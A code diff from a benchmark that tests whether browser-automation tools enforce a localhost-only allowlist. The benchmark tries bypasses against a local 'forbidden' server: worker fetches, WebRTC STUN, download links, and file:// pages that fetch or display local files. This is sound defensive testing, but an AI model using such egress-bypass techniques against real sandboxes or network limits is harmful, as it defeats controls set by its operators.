@@ -11,21 +11,22 @@ from contextlib import AbstractAsyncContextManager, AsyncExitStack, asynccontext
 from dataclasses import dataclass, field
 from pathlib import Path
 from tempfile import TemporaryDirectory
-from typing import Final, Protocol
+from typing import Final
 
-from benchmarks.peers.agent_browser import VERSION as AGENT_BROWSER_VERSION
 from benchmarks.peers.agent_browser import AgentBrowser, installed
+from benchmarks.peers.bound import CALLED, Bound, CommandLine, Ours, Server
 from benchmarks.peers.installation import cache, npm
-from benchmarks.peers.mcp_server import McpServer, mcp_server
+from benchmarks.peers.mcp_server import mcp_server
 from benchmarks.peers.peer import Ground, PeerAbsent
 from benchmarks.peers.playwright_mcp import VERSION as PLAYWRIGHT_MCP_VERSION
 from benchmarks.table import table
-from refbrowser import Browser, Chat, Settings
+from refbrowser import Browser, Settings
 from tests.egress.attempts import FROM_PAGES, SPELLINGS
 from tests.support.server import Site
 
 HEADING: Final = "## Against the peers: ways past a list of allowed hosts"
 REACHED: Final = "**reached**"
+_NONE: Final = object()
 PATIENCE_S: Final = 1.5
 """How long after the tool has answered a forbidden request may still arrive."""
 
@@ -35,7 +36,8 @@ CALL_S: Final = 12.0
 _METHOD: Final = """\
 Written by `./dev bench --only bypass`. Every tool is told to allow `localhost` alone: refbrowser by `network=allowlist`, agent-browser by
 its allowed domains, Playwright MCP by `--allowed-origins` (whose help says that it is no security boundary). A second server on
-this machine, of another host and port, notes what reaches it. **Reached** is a request that arrived there; for WebRTC, a packet."""
+this machine, of another host and port, notes what reaches it. **Reached** is a request that arrived there; for WebRTC, a packet; for a
+file of this machine, its words. A raw command is `cdp` here, and code that Playwright MCP runs there."""
 
 _WORKER: Final = "fetch('INNER/secret', {mode: 'no-cors'}); onfetch = () => 0"
 _STUN: Final = """<script>const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:STUN'}]}); p.createDataChannel('x');
@@ -62,24 +64,15 @@ EVALUATED: Final = {
     "a script of the tool's opens it": "(open('INNER/secret'), 1)",
 }
 
-
-class Bound(Protocol):
-    """A tool that was given the list."""
-
-    name: str
-
-    async def open(self, url: str) -> object:
-        """Loads ``url``; what goes wrong is raised or returned."""
-        ...
-
-    async def evaluate(self, script: str) -> object:
-        """Runs an expression in the page."""
-        ...
+_FILE: Final = "the tool opens a file of this machine"
+_LOCAL: Final = "the tool opens a file that fetches it"
+_MARKER: Final = "words of a file"
 
 
 @dataclass
 class Bypasses:
-    """What reached the forbidden server: by attempt, by tool. Empty: nothing did; ``not loaded``: the tool did not load the page."""
+    """What reached the forbidden server: by attempt, by tool. Empty: nothing did; ``not loaded``: the tool did not load the page;
+    ``no tool``: it has none for that."""
 
     reached: dict[str, dict[str, str]] = field(default_factory=dict)
     absent: dict[str, str] = field(default_factory=dict)
@@ -171,53 +164,52 @@ async def _try_all(tool: Bound, places: _Places, found: Bypasses) -> None:
             return await tool.evaluate(places.told(script, secret))
 
         attempts.append((name, evaluate))
+    for what in CALLED:
+
+        async def call(secret: str, what: str = what) -> object:
+            url = places.forbidden.url(secret)
+            if what not in tool.calls:
+                return _NONE
+            page = places.allowed.page(f"<a id=get download href='{url}'>Get</a>")
+            await tool.open(page.replace("127.0.0.1", "localhost"))
+            return await tool.call(what, url)
+
+        attempts.append((f"the tool {what}", call))
+    with TemporaryDirectory() as folder:
+        await _try_each(tool, places, found, [*attempts, *_of_files(tool, places, Path(folder))])
+
+
+def _of_files(tool: Bound, places: _Places, folder: Path) -> list[tuple[str, Callable[[str], Awaitable[object]]]]:
+    async def fetches(secret: str) -> object:
+        (folder / "page.html").write_text(places.told("<img src='INNER/secret'>", secret), encoding="utf-8")
+        return await tool.open((folder / "page.html").as_uri())
+
+    async def shows(_: str) -> object:
+        (folder / "words.txt").write_text(_MARKER, encoding="utf-8")
+        with suppress(RuntimeError):
+            await tool.open((folder / "words.txt").as_uri())
+        return REACHED if _MARKER in str(await tool.evaluate("document.body.innerText")) else None
+
+    return [(_LOCAL, fetches), (_FILE, shows)]
+
+
+async def _try_each(
+    tool: Bound, places: _Places, found: Bypasses, attempts: list[tuple[str, Callable[[str], Awaitable[object]]]]
+) -> None:
     # That the server is reached at all where nothing forbids it shows in the tools that do not hold.
     for number, (name, attempt) in enumerate(attempts):
         secret, loaded = f"/secret{number}", len(places.allowed.requests)
+        answer: object = None
         with suppress(RuntimeError, TimeoutError):
             async with asyncio.timeout(CALL_S):
-                await attempt(secret)
-        reached = REACHED if await places.came(secret) else ""
+                answer = await attempt(secret)
+        reached = REACHED if answer == REACHED or await places.came(secret) else ""
+        if answer is _NONE:
+            reached = "no tool"
         if not reached and name in PAGES and len(places.allowed.requests) == loaded:
             reached = "not loaded"
         found.reached.setdefault(name, {})[tool.name] = reached
         print(f"{tool.name}: {name}: {reached or 'not reached'}", flush=True)
-
-
-@dataclass
-class _Ours:
-    chat: Chat
-    name: str = "refbrowser"
-
-    async def open(self, url: str) -> object:
-        return await self.chat.call({"action": "navigate", "url": url, "timeout_ms": 8_000})
-
-    async def evaluate(self, script: str) -> object:
-        return await self.chat.call({"action": "evaluate", "script": script})
-
-
-@dataclass
-class _AgentBrowser:
-    peer: AgentBrowser
-    name: str = f"agent-browser {AGENT_BROWSER_VERSION}"
-
-    async def open(self, url: str) -> object:
-        return await self.peer.run("open", url)
-
-    async def evaluate(self, script: str) -> object:
-        return await self.peer.run("eval", script)
-
-
-@dataclass
-class _PlaywrightMcp:
-    server: McpServer
-    name: str = f"Playwright MCP {PLAYWRIGHT_MCP_VERSION}"
-
-    async def open(self, url: str) -> object:
-        return await self.server.call("browser_navigate", url=url)
-
-    async def evaluate(self, script: str) -> object:
-        return await self.server.call("browser_evaluate", function=f"() => {script}")
 
 
 @asynccontextmanager
@@ -228,7 +220,7 @@ async def _ours(ground: Ground, places: _Places) -> AsyncIterator[Bound]:
     async with Browser(settings) as browser:
         chat = browser.chat("bypass")
         await chat.call({"action": "open"})
-        yield _Ours(chat)
+        yield Ours(chat)
 
 
 @asynccontextmanager
@@ -241,7 +233,7 @@ async def _agent_browser(ground: Ground, places: _Places) -> AsyncIterator[Bound
             await peer.run("open", places.allowed.other("/status/200"))
         except RuntimeError as refused:
             raise PeerAbsent(str(refused)) from None
-        yield _AgentBrowser(peer)
+        yield CommandLine(peer, ground.folder)
 
 
 @asynccontextmanager
@@ -250,7 +242,7 @@ async def _playwright_mcp(ground: Ground, places: _Places) -> AsyncIterator[Boun
     origin = places.allowed.other("").rstrip("/")
     arguments = ["--headless", "--isolated", "--executable-path", str(ground.executable), "--allowed-origins", origin]
     async with mcp_server(package / "cli.js", [*arguments, *ground.browser_arguments], ground.folder / "bypass-mcp") as server:
-        yield _PlaywrightMcp(server)
+        yield Server(server)
 
 
 _TOOLS: Final[dict[str, Callable[[Ground, _Places], AbstractAsyncContextManager[Bound]]]] = {
